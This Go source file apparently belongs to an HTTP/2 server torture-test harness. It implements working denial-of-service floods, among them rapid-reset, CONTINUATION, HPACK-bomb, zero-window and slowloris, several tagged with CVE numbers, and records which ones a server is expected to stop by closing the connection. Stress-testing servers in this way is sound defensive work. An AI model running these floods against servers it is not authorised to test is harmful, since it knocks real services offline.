package torture

import (
	"math/rand/v2"
	"time"

	"github.com/h2rpc/h2rpc/frame"
)

// Attack describes one of the floods Run knows.
type Attack struct {
	// Name is what Config.Attacks and the command line call it.
	Name string
	// CVE is the advisory the attack is known by, if any.
	CVE string
	// Summary says in a line what the attacker sends.
	Summary string
	// Connections is the number of attacking connections; for attacks
	// marked Multi, Config.Connections overrides it.
	Connections int
	// Multi marks the attacks whose connection count Config.Connections sets.
	Multi bool
	// Reads tells whether the attacker reads what the server sends during
	// the flood. Those that do not read start only once the server stops
	// reading them.
	Reads bool
	// ExpectClose marks the attacks a server is expected to stop by
	// closing the connection (with GOAWAY ENHANCE_YOUR_CALM); the others
	// it may survive by bounding what they cost.
	ExpectClose bool

	// settings are our SETTINGS in the handshake, and inc the connection
	// window increment that follows them.
	settings []frame.Setting
	inc      uint32
	// raw attacks open the connection themselves (no preface).
	raw   bool
	flood func(r *attackRun, c *conn)
}

// Settings of a well-behaved client that reads what it is sent, and of one
// that does not (the default windows: the server may send it 64 KiB).
var (
	readingSettings = []frame.Setting{
		{ID: frame.SettingEnablePush, Val: 0},
		{ID: frame.SettingInitialWindowSize, Val: readWindow},
	}
	deafSettings = []frame.Setting{{ID: frame.SettingEnablePush, Val: 0}}
)

// readingInc is the connection window increment a reading attacker
// announces, bringing its window to readWindow.
const readingInc = readWindow - frame.DefaultWindowSize

// attacks lists every attack, in the order Run runs them.
var attacks = []*Attack{
	{Name: "rapid-reset", CVE: "CVE-2023-44487", Summary: "HEADERS of a gRPC request, then RST_STREAM(CANCEL) at once, as fast as possible",
		Connections: 1, Reads: true, ExpectClose: true, flood: floodRapidReset},
	{Name: "rapid-reset-8", CVE: "CVE-2023-44487", Summary: "rapid-reset on 8 connections at once",
		Connections: 8, Reads: true, ExpectClose: true, flood: floodRapidReset},
	{Name: "settings-flood", CVE: "CVE-2019-9515", Summary: "SETTINGS frames as fast as possible, never reading the acknowledgements",
		Connections: 1, ExpectClose: true, flood: floodSettings},
	{Name: "ping-flood", CVE: "CVE-2019-9512", Summary: "PING frames as fast as possible, never reading the acknowledgements",
		Connections: 1, ExpectClose: true, flood: floodPing},
	{Name: "reset-flood", CVE: "CVE-2019-9514", Summary: "HEADERS then WINDOW_UPDATE of 0 on each stream, so the server resets it, never reading",
		Connections: 1, ExpectClose: true, flood: floodReset},
	{Name: "zero-window", CVE: "CVE-2019-9517", Summary: "stream windows of 0, many streams each asking a 1 MiB response, never reading",
		Connections: 4, Multi: true, ExpectClose: true, flood: floodZeroWindow},
	{Name: "small-data", CVE: "", Summary: "16 requests each announcing a 4 MiB message, sent in 1-byte DATA frames",
		Connections: 1, Reads: true, flood: floodSmallData},
	{Name: "continuation", CVE: "CVE-2024-27316", Summary: "HEADERS without END_HEADERS, then CONTINUATION frames that never end the block",
		Connections: 1, Reads: true, ExpectClose: true, flood: floodContinuation},
	{Name: "empty-frames", CVE: "CVE-2019-9518", Summary: "empty DATA frames without END_STREAM on an open stream, endlessly",
		Connections: 1, Reads: true, ExpectClose: true, flood: floodEmptyFrames},
	{Name: "hpack-bomb", CVE: "", Summary: "header blocks of one-byte references to a dynamic table entry as large as the table",
		Connections: 1, Reads: true, ExpectClose: true, flood: floodHPACKBomb},
	{Name: "priority-flood", CVE: "CVE-2019-9513", Summary: "PRIORITY frames reshuffling idle streams, as fast as possible",
		Connections: 1, Reads: true, ExpectClose: true, flood: floodPriority},
	{Name: "window-update-flood", CVE: "", Summary: "WINDOW_UPDATE frames of 1 on the connection, as fast as possible",
		Connections: 1, Reads: true, flood: floodWindowUpdate},
	{Name: "slowloris", CVE: "", Summary: "many connections sending the client preface one byte at a time",
		Connections: 128, Multi: true, Reads: true, raw: true, flood: floodSlowloris},
}

func init() {
	for _, a := range attacks {
		if a.settings == nil {
			if a.Reads {
				a.settings, a.inc = readingSettings, readingInc
			} else {
				a.settings = deafSettings
			}
		}
	}
	zeroWindow := lookup("zero-window")
	zeroWindow.settings = []frame.Setting{
		{ID: frame.SettingEnablePush, Val: 0},
		{ID: frame.SettingInitialWindowSize, Val: 0},
	}
}

// Attacks returns every attack Run knows, in the order it runs them.
func Attacks() []Attack {
	out := make([]Attack, len(attacks))
	for i, a := range attacks {
		out[i] = *a
	}
	return out
}

func lookup(name string) *Attack {
	for _, a := range attacks {
		if a.Name == name {
			return a
		}
	}
	return nil
}

// repeat appends units of an attack to the batch and writes it, while the
// flood is live; unit returns false when it cannot go on.
func (c *conn) repeat(unit func() bool) {
	for c.live() {
		for len(c.buf) < batchBytes {
			if !unit() {
				c.flush()
				return
			}
		}
		if c.flush() != nil {
			return
		}
	}
}

func floodRapidReset(r *attackRun, c *conn) {
	c.repeat(func() bool {
		id, ok := c.newStreamID()
		if !ok {
			return false
		}
		c.request(id, r.fields, false)
		c.buf = frame.AppendRSTStream(c.buf, id, frame.ErrCodeCancel)
		c.mark()
		return true
	})
}

func floodSettings(r *attackRun, c *conn) {
	c.repeat(func() bool {
		c.buf = frame.AppendSettings(c.buf, frame.Setting{ID: frame.SettingEnablePush, Val: 0})
		c.mark()
		return true
	})
}

func floodPing(r *attackRun, c *conn) {
	var n uint64
	c.repeat(func() bool {
		n++
		var data [8]byte
		for i := range data {
			data[i] = byte(n >> (56 - 8*i))
		}
		c.buf = frame.AppendPing(c.buf, false, data)
		c.mark()
		return true
	})
}

func floodReset(r *attackRun, c *conn) {
	c.repeat(func() bool {
		id, ok := c.newStreamID()
		if !ok {
			return false
		}
		c.request(id, r.fields, false)
		// RFC 9113 §6.9: an increment of 0 is a stream error; the
		// server must answer RST_STREAM(PROTOCOL_ERROR).
		c.buf = frame.AppendWindowUpdate(c.buf, id, 0)
		c.mark()
		return true
	})
}

// zeroWindowStreams is how many streams each zero-window connection opens
// when the server allows more (or sets no limit) and Config does not say.
const zeroWindowStreams = 256

func floodZeroWindow(r *attackRun, c *conn) {
	n := uint32(zeroWindowStreams)
	if r.cfg.StreamsPerConn > 0 {
		n = uint32(r.cfg.StreamsPerConn)
	} else if m := c.peer.maxConcurrentStreams; m > 0 && m < n {
		n = m
	}
	msg := largeResponseRequest(largeResponse)
	for range n {
		id, ok := c.newStreamID()
		if !ok {
			break
		}
		c.request(id, r.largeFields, false)
		c.buf = frame.AppendData(c.buf, id, true, msg)
		c.mark()
		if len(c.buf) >= batchBytes && c.flush() != nil {
			return
		}
	}
	if c.flush() != nil {
		return
	}
	c.hold()
}

// smallDataStreams is the number of requests the small-data attack keeps
// open.
const smallDataStreams = 16

// smallStream is one small-data request: the bytes of its message still
// to send, prefix first.
type smallStream struct {
	id   uint32
	sent int
}

func floodSmallData(r *attackRun, c *conn) {
	prefix := messagePrefix(largeMessage)
	total := len(prefix) + largeMessage
	n := smallDataStreams
	if m := c.peer.maxConcurrentStreams; m > 0 && int(m) < n {
		n = int(m)
	}
	streams := make([]smallStream, 0, n)
	next := 0
	for c.live() {
		// Replace the requests the server has ended.
		c.mu.Lock()
		kept := streams[:0]
		for _, s := range streams {
			if _, ok := c.streamWin[s.id]; ok && s.sent < total {
				kept = append(kept, s)
			}
		}
		streams = kept
		c.mu.Unlock()
		for len(streams) < n {
			id, ok := c.newStreamID()
			if !ok {
				c.flush()
				return
			}
			c.request(id, r.largeFields, false)
			c.mu.Lock()
			c.streamWin[id] = int64(c.peer.initialWindowSize)
			c.mu.Unlock()
			streams = append(streams, smallStream{id: id})
		}
		// One byte per frame, round robin, as far as the windows allow.
		c.mu.Lock()
		queued := 0
		for len(c.buf) < batchBytes && c.connWin > 0 {
			found := false
			for range streams {
				s := &streams[next%len(streams)]
				next++
				if c.streamWin[s.id] <= 0 || s.sent >= total {
					continue
				}
				b := byte(0)
				if s.sent < len(prefix) {
					b = prefix[s.sent]
				}
				s.sent++
				c.streamWin[s.id]--
				c.connWin--
				c.buf = frame.AppendData(c.buf, s.id, s.sent == total, []byte{b})
				c.mark()
				queued++
				found = true
				break
			}
			if !found {
				break
			}
		}
		if queued == 0 {
			// Wait for a window update, or for a request to end.
			c.waitLocked(func() bool {
				if c.connWin <= 0 {
					return false
				}
				for _, s := range streams {
					if w, ok := c.streamWin[s.id]; !ok || w > 0 {
						return true
					}
				}
				return false
			})
		}
		c.mu.Unlock()
		if c.flush() != nil {
			return
		}
	}
}

// continuationFragment is the size of each CONTINUATION payload.
const continuationFragment = 4 << 10

func floodContinuation(r *attackRun, c *conn) {
	// No other frame may come between the frames of a header block
	// (RFC 9113 §6.10), so nothing owed is ever sent.
	c.noAcks = true
	id, _ := c.newStreamID()
	c.buf = frame.AppendHeader(c.buf, uint32(len(r.literalRequest)), frame.TypeHeaders, 0, id)
	c.buf = append(c.buf, r.literalRequest...)
	c.mark()
	frag := floodFragment(min(continuationFragment, int(c.peer.maxFrameSize)))
	c.repeat(func() bool {
		c.buf = frame.AppendHeader(c.buf, uint32(len(frag)), frame.TypeContinuation, 0, id)
		c.buf = append(c.buf, frag...)
		c.mark()
		return true
	})
}

func floodEmptyFrames(r *attackRun, c *conn) {
	id, _ := c.newStreamID()
	c.request(id, r.fields, false)
	c.repeat(func() bool {
		c.buf = frame.AppendData(c.buf, id, false, nil)
		c.mark()
		return true
	})
}

func floodHPACKBomb(r *attackRun, c *conn) {
	name, value, ok := bombEntry(c.peer.headerTableSize)
	if !ok {
		r.fail("the server's HEADER_TABLE_SIZE of %d bytes leaves no room for a large entry", c.peer.headerTableSize)
		return
	}
	// The first request puts the entry in the table; every later one
	// refers to it as many times as one frame holds.
	id, _ := c.newStreamID()
	first := appendLiteral(append([]byte(nil), r.literalRequest...), true, name, value)
	c.buf = frame.AppendHeaders(c.buf, id, true, first, c.peer.maxFrameSize)
	c.mark()
	refs := int(min(c.peer.maxFrameSize, 1<<14)) - len(r.literalRequest)
	block := bombBlock(r.literalRequest, refs)
	c.repeat(func() bool {
		id, ok := c.newStreamID()
		if !ok {
			return false
		}
		c.buf = frame.AppendHeaders(c.buf, id, true, block, c.peer.maxFrameSize)
		c.mark()
		return true
	})
}

// priorityStreams is how many idle streams the priority flood reshuffles.
const priorityStreams = 4096

func floodPriority(r *attackRun, c *conn) {
	rng := rand.New(rand.NewPCG(1, 2))
	c.repeat(func() bool {
		id := 2*rng.Uint32N(priorityStreams) + 1
		dep := 2*rng.Uint32N(priorityStreams) + 1
		if dep == id {
			dep = 0
		}
		p := frame.Priority{StreamDep: dep, Exclusive: rng.IntN(2) == 0, Weight: uint8(rng.UintN(256))}
		c.buf = frame.AppendPriority(c.buf, id, p)
		c.mark()
		return true
	})
}

func floodWindowUpdate(r *attackRun, c *conn) {
	c.repeat(func() bool {
		c.buf = frame.AppendWindowUpdate(c.buf, 0, 1)
		c.mark()
		return true
	})
}

// floodSlowloris sends the client preface one byte at a time, spread over
// the flood so that its last byte never leaves. Each byte counts as a
// frame.
func floodSlowloris(r *attackRun, c *conn) {
	c.noAcks = true
	preface := frame.ClientPreface[:len(frame.ClientPreface)-1]
	interval := c.end.Sub(c.start) / time.Duration(len(preface))
	for i := 0; i < len(preface) && c.live(); i++ {
		c.buf = append(c.buf, preface[i])
		c.mark()
		if c.flush() != nil {
			return
		}
		c.mu.Lock()
		c.waitUntilLocked(func() bool { return false }, c.start.Add(time.Duration(i+1)*interval))
		c.mu.Unlock()
	}
	c.hold()
}
